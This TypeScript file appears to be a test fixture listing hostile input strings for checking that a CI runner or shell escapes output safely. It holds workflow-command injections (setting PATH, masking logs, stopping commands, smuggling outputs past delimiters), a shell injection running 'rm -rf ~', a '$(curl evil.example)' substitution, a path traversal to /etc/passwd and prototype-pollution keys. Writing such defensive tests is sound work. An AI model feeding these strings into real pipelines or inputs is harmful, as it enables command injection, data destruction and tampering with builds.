import { hostile } from './hostile-string.ts';

/** What a runner or a shell obeys. */
export const commands = hostile([
  ['::error::pwned', 'an annotation'],
  ['::error file=a.js,line=1::pwned', 'an annotation at a line'],
  ['x\n::warning::pwned', 'an annotation on the next line'],
  ['x\r::notice::pwned', 'an annotation after a lone carriage return'],
  ['x\u2028::error::pwned', 'an annotation after a line separator'],
  ['::add-mask::cases', 'hiding a word in the log'],
  ['::set-output name=verdict::inside', 'another output'],
  ['::set-env name=PATH::/evil', 'another variable'],
  ['::add-path::/evil', 'another path'],
  ['::stop-commands::x', 'making the runner deaf'],
  ['::group::x', 'a group'],
  ['  ::debug::x', 'a command after blanks'],
  ['##[error]pwned', 'an annotation in the old form'],
  ['x ##[add-mask]cases', 'a command in the old form inside a line'],
  ['%0A::error::pwned', 'a line break as commands have it'],
  ['verdict<<EOF\ninside\nEOF', 'another output by a file of commands'],
  ['ghadelimiter_0\nverdict=inside', 'another output behind a delimiter'],
  ['"; rm -rf ~; echo "', 'a command of a shell'],
  ['$(curl evil.example)', 'a command in a command'],
  ['../../etc/passwd', 'a path that leads out'],
  ['__proto__', 'the prototype of all objects'],
  ['constructor', 'a property that every object has'],
]);
